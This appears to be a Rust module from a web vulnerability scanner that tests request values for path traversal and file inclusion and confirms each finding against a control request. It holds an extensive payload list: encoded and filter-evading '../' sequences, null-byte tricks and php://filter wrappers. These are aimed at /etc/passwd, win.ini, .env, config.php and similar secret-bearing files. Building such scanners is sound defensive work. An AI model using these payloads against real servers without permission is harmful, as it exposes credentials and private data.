//! Values that become paths of files.

use futures_util::FutureExt;
use futures_util::future::BoxFuture;

use super::difference::Gist;
use super::facts::{Facts, facts};
use crate::checks::{About, Bench, Check, Entry};
use crate::http::{Body, Request};
use crate::point::{Place, Point, Put};
use crate::proof::{Expect, Seen};

/// See [`About`].
pub(super) struct Traversal;

static ABOUT: About = About {
    name: "path-traversal",
    qids: &[150_011],
    means: "A value is used as the path of a file, and leads out of the folder that it is meant for.",
    matters: "Files of the server are shown: configuration with passwords, keys, source code, data of others. Where the file is \
              executed as a script, files that were uploaded or logged can run.",
    remedy: "Choose files by a name from a fixed list. Where the name must be free, resolve the path first and then check that \
             it still lies in the folder.",
    technique: "Paths to files with a known content are put in: absolute, upwards, encoded twice, in forms that survive \
                filters, and with what the usual value begins and ends with. The content must be shown, and not for a file of \
                another name at the same place.",
    source: "CWE-22, CWE-98",
};

/// Steps upwards, each as `../` is written to pass some filter.
const UP: &[&str] = &[
    "../",
    "....//",
    "..\\",
    "%2e%2e%2f",
    "..%2f",
    "..././",
    "%252e%252e%252f",
    "..//",
    "....\\/",
    "..;/",
    "/../",
    "\u{ff0e}\u{ff0e}\u{ff0f}",
    "..%c0%af",
    "..\\/",
    "..%252f",
    // What is left when `../` is taken away twice.
    "......///",
    "%u002e%u002e%u002f",
];
const DEPTH: usize = 10;
const SHORT: usize = 5;

/// Known files and what stands in them.
const FILES: &[(&str, &str)] = &[
    ("etc/passwd", r"(?m)^[^:\s]*root:[^:\n]*:0:0:|&#58;0&#58;0&#58;|root:[x*!]?:0:0:|cm9vdDp4OjA6MD"),
    ("windows/win.ini", r"; for 16-bit app support|(?i)\[(?:mci extensions|extensions|fonts)\]"),
];

/// A file with a known content that nobody can write.
const UNWRITABLE: &str = "proc/version";
/// Names of files in `/etc` that every system has.
const LISTED: &str =
    r"(?s)\bpasswd\b.*\b(?:group|hosts|services|shells)\b|\b(?:group|hosts|services|shells)\b.*\bpasswd\b";

impl Check for Traversal {
    fn about(&self) -> &'static About {
        &ABOUT
    }

    fn probe<'a>(
        &'a self,
        bench: &'a Bench<'a>,
        entry: &'a Entry,
        point: &'a Point,
    ) -> Option<BoxFuture<'a, ()>> {
        (!point.is_name()).then(|| probe(bench, entry, point).boxed())
    }
}

struct Try {
    payload: String,
    control: String,
    pattern: String,
}

async fn probe(bench: &Bench<'_>, entry: &Entry, point: &Point) {
    let Some(known) = facts(bench, entry, point).await else { return };
    let is_path = matches!(point.place, Place::Path(_));
    if is_path && !is_last(entry, point) && known.is_route() {
        return;
    }
    let (has_name, is_file) = (has_likely_name(point), is_file_like(point));
    if point.is_guess() && !known.matters && !is_file {
        return;
    }
    // Where the usual value is not found either, its name must do.
    let can_tell = known.matters && entry.response.status < 400;
    let is_likely = is_file
        || if can_tell {
            is_path_like(bench, entry, (point, &known)).await
        } else {
            has_name && known.matters
        };
    let list = if is_likely {
        tries(&point.value)
    } else {
        let own = (has_name && can_tell).then(|| encoded(&point.value));
        // A part of a path has no slashes but encoded ones.
        let is_part = |attempt: &Try| is_path && attempt.payload == steps_within();
        let few = tries("").into_iter().enumerate().filter(|(n, attempt)| *n < 2 || is_part(attempt));
        few.map(|(_, attempt)| attempt).chain(own).collect()
    };
    let writes = has_file(&entry.request);
    for attempt in list {
        if writes && !attempt.payload.contains(UNWRITABLE) {
            continue;
        }
        if let Some(raw) = try_one(bench, entry, point, &attempt).await {
            if raw {
                return;
            }
            continue;
        }
    }
    if (is_file || has_name) && is_likely && known.matters && !writes {
        own_files(bench, entry, point).await;
    }
}

/// Whether a request brings a file along: what its values lead to may be written, not read.
fn has_file(request: &Request) -> bool {
    matches!(&request.body, Body::Multipart(parts) if parts.iter().any(|part| part.file_name.is_some()))
}

/// Whether a value behind `./` is answered otherwise than a plain word: what opens files takes it for the same file.
async fn is_path_like(bench: &Bench<'_>, entry: &Entry, (point, known): (&Point, &Facts)) -> bool {
    let same = format!("./{}", point.value);
    let Ok(answer) = bench.send_of(entry, &entry.request.with(point, &same)).await else { return false };
    !known.says_nothing(point, &answer, &same)
}

fn is_last(entry: &Entry, point: &Point) -> bool {
    let last = entry.request.url.path.split('/').skip(1).count().saturating_sub(1);
    point.place == Place::Path(last)
}

/// Whether the value looks like that of a file.
fn is_file_like(point: &Point) -> bool {
    point.value.contains(['/', '.', '\\'])
}

/// Whether the name is one under which files are asked for.
pub(super) fn has_likely_name(point: &Point) -> bool {
    let name = point.name.to_ascii_lowercase();
    let names = [
        "file", "path", "page", "doc", "template", "include", "lang", "dir", "folder", "name", "view",
        "load", "read", "img", "image", "src", "url", "download", "theme", "style", "locale", "report",
        "log", "module", "content", "layout", "attach", "show", "get", "resource", "asset", "skin", "conf",
        "root",
    ];
    names.iter().any(|word| name.contains(word)) || matches!(point.place, Place::Path(_))
}

fn wrong(payload: &str) -> String {
    payload
        .replace("passwd", "passwq")
        .replace("win.ini", "win.inq")
        .replace("L2V0Yy9wYXNzd2Q", "L2V0Yy9wYXNzd3E")
        .replace("base64-encode/resource=", "base64-encode/resource=zq")
        .replace("proc/version", "proc/versioq")
        .replace("etc/hosts", "etc/hostq")
}

/// A path that ends in a folder, to one that is not there.
fn wrong_folder(payload: &str) -> String {
    payload.strip_suffix("etc").map_or_else(|| wrong(payload), |before| format!("{before}etq"))
}

/// What is tried, most usual first.
fn tries(value: &str) -> Vec<Try> {
    let (folder, file) = value.rsplit_once('/').map_or(("", value), |(folder, file)| (folder, file));
    let kind = file.rsplit_once('.').map(|(_, kind)| kind).filter(|kind| !kind.is_empty());
    let [(unix, unix_sign), (windows, windows_sign)] =
        [FILES.first(), FILES.last()].map(|file| file.copied().unwrap_or_default());
    let mut list: Vec<(String, &str)> = Vec::new();
    let up = |step: &str, file: &str| {
        // The slash within the name is written like those of the steps.
        const SLASHES: &[&str] = &["%252f", "%2f", "%c0%af", "%u002f", "\u{ff0f}", "/", "\\"];
        let slash = SLASHES.iter().find(|slash| step.contains(**slash)).unwrap_or(&"/");
        format!("{}{}", step.repeat(DEPTH), file.replace('/', slash))
    };
    let steps = |n: usize| UP.get(n).copied().unwrap_or("../");
    list.push((up(steps(0), unix), unix_sign));
    list.push((format!("/{unix}"), unix_sign));
    list.push((up(steps(1), unix), unix_sign));
    // Values may be cut off after some letters.
    list.push((format!("{}{unix}", "../".repeat(SHORT)), unix_sign));
    list.push((up("..\\", windows), windows_sign));
    list.push((format!("C:\\{}", windows.replace('/', "\\")), windows_sign));
    list.push((steps_within(), unix_sign));
    if !folder.is_empty() {
        list.push((format!("{folder}/{}", up("../", unix)), unix_sign));
        list.push((format!("{folder}/{}", up("....//", unix)), unix_sign));
    }
    list.push((format!("{value}/{}", up("../", unix)), unix_sign));
    if let Some(kind) = kind {
        list.push((format!("{}\0.{kind}", up("../", unix)), unix_sign));
        list.push((format!("{}%00.{kind}", up("../", unix)), unix_sign));
        list.push((format!("{}/{value}/{}", "zq", up("../", unix)), unix_sign));
    } else {
        list.push((format!("{}\0", up("../", unix)), unix_sign));
        list.push((format!("{}%00", up("../", unix)), unix_sign));
        // What has no ending may be given one, behind a filter as well.
        list.extend(
            ["....//", "%2e%2e%2f", "%252e%252e%252f", "..\\", "......///"]
                .iter()
                .map(|step| (format!("{}\0", up(step, unix)), unix_sign)),
        );
        list.push((format!("/{unix}\0"), unix_sign));
    }
    list.extend(UP.iter().skip(3).map(|step| (up(step, unix), unix_sign)));
    list.push((format!("file:///{unix}"), unix_sign));
    list.push((format!("//{unix}"), unix_sign));
    list.push((format!("./{}", up("../", unix)), unix_sign));
    list.push((format!("php://filter/convert.base64-encode/resource=/{unix}"), "cm9vdDp[4e]O|cm9vdD"));
    list.push((format!("php://filter/resource=/{unix}"), unix_sign));
    list.push((up("../", windows), windows_sign));
    list.push((format!("/{}%2fpasswd", "etc"), unix_sign));
    list.push((up("../", unix).replace("etc/passwd", "etc/./passwd"), unix_sign));
    if !value.is_empty() {
        // Where a filter looks for the name that everybody tries.
        list.push((up("../", "proc/version"), r"Linux version \d+\.\d+"));
        list.push((up("../", "etc/hosts"), r"(?m)^127\.0\.0\.1\s+localhost"));
    }
    // What lists a folder shows the names in it.
    list.push((up("../", "etc"), LISTED));
    list.push(("/etc".to_owned(), LISTED));
    if let Some(kind) = kind {
        list.push((format!("{}?.{kind}", up("../", unix)), unix_sign));
        list.push((format!("{}#.{kind}", up("../", unix)), unix_sign));
        list.push((format!("{}\0.{kind}", up("..\\", windows)), windows_sign));
        list.push((format!("{}\0.{kind}", up("....//", unix)), unix_sign));
    }
    let tries = list.into_iter().map(|(payload, pattern)| Try {
        control: wrong_folder(&payload),
        payload,
        pattern: pattern.to_owned(),
    });
    tries.chain((!value.is_empty()).then(|| encoded(value))).collect()
}

/// Steps up without a slash or dot that a server would look at.
fn steps_within() -> String {
    "%2e%2e%2f".repeat(DEPTH) + "etc%2fpasswd"
}

/// Where an ending is added: the program's own text, encoded, instead of what it does.
fn encoded(value: &str) -> Try {
    let payload = format!("php://filter/convert.base64-encode/resource={value}");
    let pattern =
        r"(?:^|[^A-Za-z0-9+/])(?:PD9waH|PD89|PCFET0NUWVBF|PCFkb2N0eXBl|PGh0bWw)[A-Za-z0-9+/]{20}".to_owned();
    Try { control: wrong(&payload), payload, pattern }
}

/// Tries one payload; gives true when it is reported, none when nothing was seen.
async fn try_one(bench: &Bench<'_>, entry: &Entry, point: &Point, attempt: &Try) -> Option<bool> {
    let put = |text: &str| -> Request {
        match point.place {
            // Slashes of a path stay what they are; dots that clients fold are written so that they don't.
            Place::Path(_) => {
                entry.request.with(point, Put::Raw(&text.replace("../", "..%2f").replace('\0', "%00")))
            }
            // Bytes that are no letters, as they are.
            Place::Query(_) | Place::Form(_) if text.contains("%c0%af") => {
                entry.request.with(point, Put::Raw(text))
            }
            Place::Cookie => entry.request.with(point, &text.replace('\0', "%00")),
            _ => entry.request.with(point, text),
        }
    };
    let attack = put(&attempt.payload);
    let expect = Expect::BodyMatches(attempt.pattern.clone());
    let answer = bench.send_of(entry, &attack).await.ok()?;
    expect.find(&Seen { response: answer, ..Seen::default() })?;
    if matches!(point.place.outer(), Place::Path(_)) && is_served(bench, entry, attempt, &expect).await {
        return Some(false);
    }
    let control = put(&attempt.control);
    let proof = bench.prove(entry.replay(attack, expect, control)).await.ok()?;
    bench.report_at(150_011, entry, Some((point, &attempt.payload)), proof);
    Some(true)
}

/// Whether what a part of a path leads to has an address of its own below one of the folders of that path: then a way to it is no
/// way out.
async fn is_served(bench: &Bench<'_>, entry: &Entry, attempt: &Try, expect: &Expect) -> bool {
    let name = attempt.payload.trim_start_matches(['.', '/', '\\']);
    let path = &entry.request.url.path;
    let is_hidden =
        attempt.payload.rsplit('/').next().is_some_and(|file| file.starts_with('.') && file.ends_with(name));
    for (at, _) in path.match_indices('/').take(MOST_FOLDERS) {
        let folder = path.get(..=at).unwrap_or("/");
        let url = entry.request.url.at(format!("{folder}{}{name}", if is_hidden { "." } else { "" }));
        if let Ok(response) = bench.send(&Request::get(url)).await
            && expect.find(&Seen { response, ..Seen::default() }).is_some()
        {
            return true;
        }
    }
    false
}

/// Folders above a place in which a file is looked for.
const MOST_FOLDERS: usize = 4;

/// Files of the application's own above the folder, known by what stands in them.
const OWN: &[(&str, &str)] = &[
    ("package.json", r#"(?:"|&quot;|&#34;)(?:dependencies|devDependencies|scripts)(?:"|&quot;|&#34;)\s*:"#),
    ("WEB-INF/web.xml", r"(?:<|&lt;|&#60;)web-app(?:\s|>|&gt;)"),
    (".env", r"(?m)^[A-Z][A-Z0-9_]{2,}=\S"),
    ("index.php", r"(?:<|&lt;|&#60;)\?(?:php|=)"),
    ("config.php", r"(?:<|&lt;|&#60;)\?(?:php|=)"),
    ("app.py", r"(?m)^(?:from|import) \w+"),
    ("web.config", r"(?:<|&lt;|&#60;)configuration(?:\s|>|&gt;)"),
    ("config/database.yml", r"(?m)^\s+adapter:\s*\w"),
    (
        "appsettings.json",
        r#"(?:"|&quot;|&#34;)(?:ConnectionStrings|Logging|AllowedHosts)(?:"|&quot;|&#34;)\s*:"#,
    ),
    ("composer.json", r#"(?:"|&quot;|&#34;)(?:require|autoload)(?:"|&quot;|&#34;)\s*:"#),
    ("server.js", r"\brequire\((?:'|&#39;|&#x27;|\x22|&quot;|&#34;)|(?m)^import .{1,80} from "),
    ("application.properties", r"(?m)^(?:spring|server|logging|management)\.[\w.-]+\s*=\s*\S"),
];

/// Where nothing of the system can be read, a file of the application may be. A way out of the folder and in again proves
/// nothing: one that resolves paths first, as it should, allows it.
async fn own_files(bench: &Bench<'_>, entry: &Entry, point: &Point) {
    let usual = Gist::of(&entry.response, &[&point.value]);
    let ask = async |value: &str| bench.send_of(entry, &entry.request.with(point, value)).await.ok();
    // What must begin with a slash may still have a dot behind it.
    let is_rooted = point.value.starts_with('/');
    let Some(same) = ask(&format!("{}{}", if is_rooted { "/." } else { "./" }, point.value)).await else {
        return;
    };
    let is_file = Gist::of(&same, &[&point.value]).same_as(&usual);
    if !is_file {
        return;
    }
    // To a name without an ending one is added.
    let is_bare = !point.value.contains('.');
    for (name, pattern) in OWN {
        let name = match name.rsplit_once('.') {
            Some((stem, _)) if is_bare && !stem.is_empty() => stem,
            _ => name,
        };
        for steps in if is_rooted { ["/", "/../", "/../../"] } else { ["../", "../../", "....//"] } {
            let payload = format!("{steps}{name}");
            let attempt =
                Try { control: format!("{steps}zq{name}"), payload, pattern: (*pattern).to_owned() };
            if try_one(bench, entry, point, &attempt).await == Some(true) {
                return;
            }
        }
    }
}

#[cfg(test)]
mod tests;
